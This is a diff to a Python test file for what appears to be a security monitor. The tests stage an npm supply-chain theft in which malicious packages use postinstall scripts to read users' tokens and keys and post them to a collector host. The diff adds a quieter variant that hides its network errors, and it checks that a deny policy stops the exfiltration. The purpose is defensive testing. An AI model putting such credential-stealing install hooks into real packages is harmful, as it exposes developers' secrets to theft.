@@ -2,12 +2,14 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
 """A supply-chain theft, for real: npm installs a package from a registry, and the install script of the package reads
 the user's tokens and keys and posts them. It raises one alert, which names all of them. The honest package raises none,
-though npm used the token and the honest script the network."""
+though npm used the token and the honest script the network. With Action=deny of these classes nothing leaves, and npm
+goes on."""
 
 import json
 import os
 import re
 import sys
+import tempfile
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../benign"))
@@ -36,6 +38,9 @@ let tries = 5;
     to.on("close", () => { if (--tries) post(); });
 })();
 """
+
+# One that hides that it fails.
+STEAL_QUIETLY = STEAL.replace("to.on(", "to.on(\"error\", () => {}); to.on(", 1)
 
 # With a process for each file, and another one for the network.
 STEAL_BY_SHELL = """
@@ -102,6 +107,27 @@ class Play:
             require(text.strip().splitlines()[1].encode() in stolen, f"the theft of ~/{name} did not succeed")
         return alerts[0]
 
+    def denied(self, user):
+        texts = self.secrets(user)
+        before, arrived = len(self.s.bw.alerts), len(self.s.net.sink.arrived)
+        self.install(user, "evilquiet")
+        self.s.bw.prove_delivered(self.s.net, self.s.home)
+        with tempfile.TemporaryDirectory() as directory:
+            # What belongs to no class arrives afterwards, so that nothing of the theft is on its way.
+            marker = f"{directory}/marker"
+            with open(marker, "w", encoding="ascii") as out:
+                out.write(self.s.home.secret().decode())
+            result = self.s.net.run([harness.program("technique-out-tcp"), "blocking", marker, HOST_V4, "443"])
+            require_equal(result.returncode, 0, f"the marker\n{result.stderr}")
+            with open(marker, "rb") as sent:
+                self.s.net.sink.wait_arrived(sent.read())
+        alerts = list({a["id"]: a for a in self.s.alerts_since(before)}.values())
+        require_equal([a["action"] for a in alerts], ["denied"], f"actions {alerts}")
+        self.check(alerts[0], user)
+        stolen = b"".join(entry[3] for entry in self.s.net.sink.arrived[arrived:])
+        for name, text in texts.items():
+            require(text.strip().splitlines()[1].encode() not in stolen, f"~/{name} has left")
+
     def check(self, alert, user):
         details = f"\n{json.dumps(alert)}"
         require_equal(alert["severity"], "high", f"severity{details}")
@@ -120,12 +146,39 @@ class Play:
             require(re.search(text, reasons, re.MULTILINE), f"no reason says \"{text}\": {reasons}")
 
 
+def collector_add(net):
+    ip("-n", net.host, "address", "add", f"{COLLECTOR}/32", "dev", "lo")
+    ip("-n", net.thief, "route", "add", f"{COLLECTOR}/32", "via", HOST_V4)
+
+
+def honest_add(registry):
+    registry.add_npm("honest", files={"build.js": HONEST % HOST_V4}, scripts={"postinstall": "node build.js"})
+
+
+def enforced(t):
+    """The same with Action=deny of the classes."""
+    with tempfile.TemporaryDirectory() as directory:
+        os.chmod(directory, 0o755)
+        with open(f"{directory}/90-deny.conf", "w", encoding="ascii") as out:
+            out.writelines(f"[Class {name}]\nAction=deny\n" for name in SECRETS.values())
+        with stage.scene((harness.DEFAULT_POLICY, directory)) as s, Registry(s.net, HOST_V4) as registry:
+            s.bw.refuses = True
+            collector_add(s.net)
+            honest_add(registry)
+            registry.add_npm("evilquiet", files={"steal.js": STEAL_QUIETLY % (json.dumps(list(SECRETS)), COLLECTOR)},
+                             scripts={"postinstall": "node steal.js"})
+            play = Play(s, registry)
+            for user in USERS:
+                t.case(f"{user}: Action=deny: an honest package raises no alert", play.honest, user)
+                t.case(f"{user}: Action=deny: nothing leaves, and npm goes on", play.denied, user)
+            t.case("Action=deny: no loss", stage.no_loss, s.bw)
+
+
 def main():
     t = tap.Tap()
     with stage.scene() as s, Registry(s.net, HOST_V4) as registry:
-        ip("-n", s.net.host, "address", "add", f"{COLLECTOR}/32", "dev", "lo")
-        ip("-n", s.net.thief, "route", "add", f"{COLLECTOR}/32", "via", HOST_V4)
-        registry.add_npm("honest", files={"build.js": HONEST % HOST_V4}, scripts={"postinstall": "node build.js"})
+        collector_add(s.net)
+        honest_add(registry)
         registry.add_npm("evil", files={"steal.js": STEAL % (json.dumps(list(SECRETS)), COLLECTOR)},
                          scripts={"postinstall": "node steal.js"})
         registry.add_npm("evilshell", files={"steal.sh": STEAL_BY_SHELL % COLLECTOR},
@@ -136,6 +189,7 @@ def main():
             t.case(f"{user}: a package that steals raises one high alert", play.theft, user, "evil")
             t.case(f"{user}: a package that steals with the shell raises one, too", play.theft, user, "evilshell")
         t.case(f"the token {TOKEN} is used by npm: no loss", stage.no_loss, s.bw)
+    enforced(t)
     t.done()
 
 
